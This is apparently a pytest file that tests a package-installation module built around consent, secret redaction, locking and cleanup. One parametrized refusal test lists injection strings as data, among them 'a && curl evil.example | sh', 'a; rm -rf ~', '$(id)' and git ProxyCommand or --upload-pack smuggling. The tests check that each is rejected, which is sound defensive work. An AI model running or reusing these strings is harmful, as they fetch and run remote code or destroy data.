"""A package that a request names: refused, agreed to, installed elsewhere, never half, never here."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import sysconfig
import time
from pathlib import Path

import pytest
from tiny_wheel import write_wheel

from dissmodel_lab.environments import (
    InstallConsent,
    environments,
    environments_folder,
    make_environment,
    package_spec,
    plan_of,
    remove_environment,
)
from dissmodel_lab.environments import making as making_module
from dissmodel_lab.environments.places import locked
from dissmodel_lab.errors import InstallError

pytestmark = pytest.mark.skipif(os.name != "posix", reason="environments of their own need POSIX")


@pytest.fixture(scope="module")
def wheels(tmp_path_factory):
    folder = tmp_path_factory.mktemp("wheels")
    write_wheel(folder)
    write_wheel(folder, version="2.0", requires=("no_such_package_anywhere",))
    return folder


@pytest.fixture(autouse=True)
def offline(wheels, monkeypatch, tmp_path):
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    monkeypatch.setenv("PIP_FIND_LINKS", str(wheels))
    monkeypatch.setenv("DISSMODEL_LAB_ENVIRONMENTS", str(tmp_path / "environments"))


def installed_here():
    return sorted(os.listdir(sysconfig.get_path("purelib")))


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("disslucc", "disslucc"),
        ("disslucc[all] >= 0.5, < 1", "disslucc[all]<1,>=0.5"),
        (" tiny_models==1.0 ", "tiny_models==1.0"),
        ("git+https://example.org/a/b.git@v1.2#subdirectory=models", None),
        ("models @ https://example.org/models-1.0.zip", None),
        ("file:///data/models-1.0-py3-none-any.whl", None),
    ],
)
def test_a_package_is_read(text, wanted):
    assert package_spec(text).text == (wanted or text.strip())


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("", "There is no package to install."),
        (None, "There is no package to install."),
        ("--index-url=https://evil.example/simple x", "is an option of pip, not a package"),
        ("-r requirements.txt", "is an option of pip, not a package"),
        ("--help", "is an option of pip, not a package"),
        ("a b", "is no single package"),
        ("a --index-url https://evil.example/simple", "comes from an address that is not trusted"),
        ("a @ https://example.org/a.zip --pre", "is no single package"),
        ("a; rm -rf ~", "is no single package"),
        ("a && curl evil.example | sh", "is no single package"),
        ("$(id)", "is no single package"),
        ("`id`", "is no single package"),
        ("a\nb", "holds characters that no package has"),
        ("a\x00b", "holds characters that no package has"),
        ("dis\u0441lucc", "holds characters that no package has"),
        ("a" * 501, "is too long"),
        ("./models", "is a path; write file:// and the whole path"),
        ("models-1.0-py3-none-any.whl", "is a path; write file:// and the whole path"),
        ("../../etc", "is a path; write file:// and the whole path"),
        ("http://example.org/a.zip", "comes from an address that is not trusted"),
        ("ftp://example.org/a.zip", "comes from an address that is not trusted"),
        ("git+file:///tmp/a", "comes from an address that is not trusted"),
        ("ext::sh -c touch% /tmp/x", "is a path; write file:// and the whole path"),
        ("git+ext::sh://x", "comes from an address that is not trusted"),
        ("https://example.org/a.zip;touch x", "holds characters that an address of a package must not have"),
        ("https://example.org/$(id)", "holds characters that an address of a package must not have"),
        ("https://example.org/a b.zip", "holds characters that an address of a package must not have"),
        ("git+ssh://-oProxyCommand=x/a", "holds characters that an address of a package must not have"),
        ("git+https://example.org/a@--upload-pack=x", "holds characters that an address of a package must not have"),
        ("file://server/a.whl", "is a file of another machine"),
        ("a; python_version > '3'", "says for which systems it is meant"),
    ],
)
def test_a_text_that_is_no_package_is_refused_before_anything_happens(text, why, monkeypatch):
    monkeypatch.setattr(making_module, "_run", lambda *_: pytest.fail("something was run"))
    with pytest.raises(InstallError, match=why.replace("(", r"\(").replace("+", r"\+")):
        make_environment(text, consent=True)
    assert environments() == []


def test_no_secret_of_an_address_is_told(monkeypatch):
    monkeypatch.delenv("PIP_NO_INDEX")
    monkeypatch.setenv("PIP_INDEX_URL", "https://ana:geheim@pypi.example/simple")
    plan = plan_of("git+https://token:geheim@example.org/models.git")
    assert plan.indexes[0] == "https://***@pypi.example/simple"
    assert "geheim" not in str(plan)
    with pytest.raises(InstallError) as refused:
        make_environment("http://ana:geheim@example.org/x.zip", consent=True)
    assert "geheim" not in str(refused.value)


def test_without_consent_the_message_names_package_index_and_folder(wheels):
    with pytest.raises(InstallError) as refused:
        make_environment("tiny_models")
    plan = plan_of("tiny_models")
    assert str(refused.value) == (
        f"The package 'tiny_models' is to be installed from {wheels} into an environment of its own, "
        f"'{plan.folder}'. Installing a package, and running its model, runs its author's code with your rights. The "
        "packages of this notebook stay as they are. Nothing was installed. To agree: consent=True, or "
        "consent=InstallConsent(package='tiny_models')."
    )
    assert not plan.folder.parent.exists()


@pytest.mark.parametrize(
    ("package", "consent", "why"),
    [
        ("tiny_models", False, "was refused. Nothing was installed, nothing runs."),
        ("tiny_models", lambda plan: False, "was refused. Nothing was installed, nothing runs."),
        ("tiny_models", lambda plan: None, "was refused. Nothing was installed, nothing runs."),
        ("tiny_models", lambda plan: "y", "was refused. Nothing was installed, nothing runs."),
        ("tiny_models", 1, "was refused. Nothing was installed, nothing runs."),
        ("tiny_models", InstallConsent(package="tiny"), "The consent is for 'tiny', but the request names 'tiny_mod"),
        ("file:///x/a.whl", True, "A package from an address has to be named."),
        ("file:///x/a.whl", InstallConsent(package="file:///x/b.whl"), "The consent is for 'file:///x/b.whl'"),
    ],
)
def test_a_consent_that_is_none_installs_nothing(package, consent, why, monkeypatch):
    monkeypatch.setattr(making_module, "_run", lambda *_: pytest.fail("something was run"))
    with pytest.raises(InstallError, match=why):
        make_environment(package, consent=consent)
    assert environments() == []


def test_a_question_is_asked_with_the_plan(monkeypatch):
    asked = []
    monkeypatch.setattr(making_module, "_run", lambda *_: pytest.fail("something was run"))
    with pytest.raises(InstallError):
        make_environment("tiny_models", consent=lambda plan: asked.append(str(plan)))
    assert asked == [str(plan_of("tiny_models"))]


def test_an_environment_is_made_beside_this_python_and_removed(wheels):
    before = installed_here()
    told = []
    made = make_environment("tiny_models==1.0", consent=True, tell=told.append)
    assert installed_here() == before
    assert made.installed == {"tiny_models": "1.0"}
    assert len(told) == 1
    code = "import tiny_models, numpy, dissmodel_lab, sys; print(tiny_models.__file__); print(numpy.__file__)"
    seen = subprocess.run([made.python, "-I", "-c", code], capture_output=True, text=True, check=True).stdout.split()
    assert Path(seen[0]).is_relative_to(made.folder)
    assert not Path(seen[1]).is_relative_to(made.folder)
    again = make_environment(
        "tiny_models==1.0", consent=InstallConsent(package="tiny_models == 1.0"), tell=told.append
    )
    assert again == made
    assert len(told) == 1
    assert environments() == [made]
    assert remove_environment(made.key[:6]) == made
    assert environments() == []
    assert not made.folder.exists()
    with pytest.raises(InstallError, match=r"There is no environment '.*'\. Known: none\."):
        remove_environment(made.key)


def test_an_address_is_installed_once_it_is_named(wheels):
    address = (wheels / "tiny_models-1.0-py3-none-any.whl").as_uri()
    made = make_environment(address, consent=InstallConsent(package=address))
    assert (made.package, made.installed) == (address, {"tiny_models": "1.0"})


def test_pips_failure_gives_its_last_lines_without_secrets_and_leaves_nothing(monkeypatch):
    monkeypatch.setenv("PIP_FIND_LINKS", "https://ana:geheim@127.0.0.1:9/wheels")
    monkeypatch.setenv("PIP_RETRIES", "0")
    monkeypatch.setenv("PIP_TIMEOUT", "1")
    with pytest.raises(InstallError) as failed:
        make_environment("no_such_package_anywhere", consent=True)
    text = str(failed.value)
    assert text.startswith("pip could not install 'no_such_package_anywhere' (exit code 1). It said last:\n")
    assert "ERROR: No matching distribution found for no_such_package_anywhere" in text
    assert "geheim" not in text
    assert [path.suffix for path in environments_folder().iterdir()] == [".lock"]


def test_what_a_package_needs_must_be_there_too():
    with pytest.raises(InstallError, match="no_such_package_anywhere"):
        make_environment("tiny_models==2.0", consent=True)
    assert environments() == []


def test_an_interrupted_installation_leaves_nothing(monkeypatch):
    def interrupted(*_):
        raise KeyboardInterrupt

    monkeypatch.setattr(making_module, "_run", interrupted)
    with pytest.raises(KeyboardInterrupt):
        make_environment("tiny_models", consent=True)
    assert [path.suffix for path in environments_folder().iterdir()] == [".lock"]


SLOW = """
import sys
from dissmodel_lab.environments import make_environment, making
slow = "import time, pathlib; pathlib.Path('begun').touch(); time.sleep(3); pathlib.Path('late').touch()"
making._pip = lambda folder, spec: [sys.executable, "-c", slow]
make_environment("tiny_models", consent=True)
"""


@pytest.mark.soak
def test_after_a_kill_the_next_process_waits_for_pip_and_begins_anew():
    plan = plan_of("tiny_models")
    maker = subprocess.Popen([sys.executable, "-c", SLOW])
    deadline = time.monotonic() + 60
    while not (plan.folder / "begun").exists() and time.monotonic() < deadline:
        time.sleep(0.02)
    os.kill(maker.pid, signal.SIGKILL)
    maker.wait()
    assert environments() == []
    with pytest.raises(InstallError, match="is in use"), locked(plan.folder, is_patient=False):
        pass  # what stood for pip is still at work there
    made = make_environment("tiny_models==1.0", consent=True)
    rest = make_environment("tiny_models", consent=True)
    assert {one.folder for one in environments()} == {made.folder, rest.folder}
    assert not (rest.folder / "late").exists()


@pytest.mark.soak
def test_processes_that_want_the_same_environment_make_it_once(tmp_path):
    code = (
        "from dissmodel_lab.environments import make_environment, making; own = making._pip\n"
        "def noted(*a):\n    open('made', 'a').write('x')\n    return own(*a)\n"
        "making._pip = noted\n"
        "print(make_environment('tiny_models', consent=True).key)"
    )
    both = [subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True) for _ in range(3)]
    said = {process.communicate(timeout=200)[0] for process in both}
    assert said == {f"{environments()[0].key}\n"}
    assert Path("made").read_text() == "x"


def test_a_folder_that_cannot_be_written_is_told(monkeypatch):
    monkeypatch.setenv("DISSMODEL_LAB_ENVIRONMENTS", "/proc/nowhere")
    with pytest.raises(
        InstallError, match=r"The folder '/proc/nowhere' cannot be written: .*DISSMODEL_LAB_ENVIRONMENTS"
    ):
        make_environment("tiny_models", consent=True)


def test_pip_cannot_be_told_to_install_elsewhere(monkeypatch, tmp_path):
    monkeypatch.setenv("PIP_TARGET", str(tmp_path / "elsewhere"))
    monkeypatch.setenv("PIP_USER", "1")
    made = make_environment("tiny_models", consent=True)
    assert made.installed == {"tiny_models": "1.0"}
    assert not (tmp_path / "elsewhere").exists()
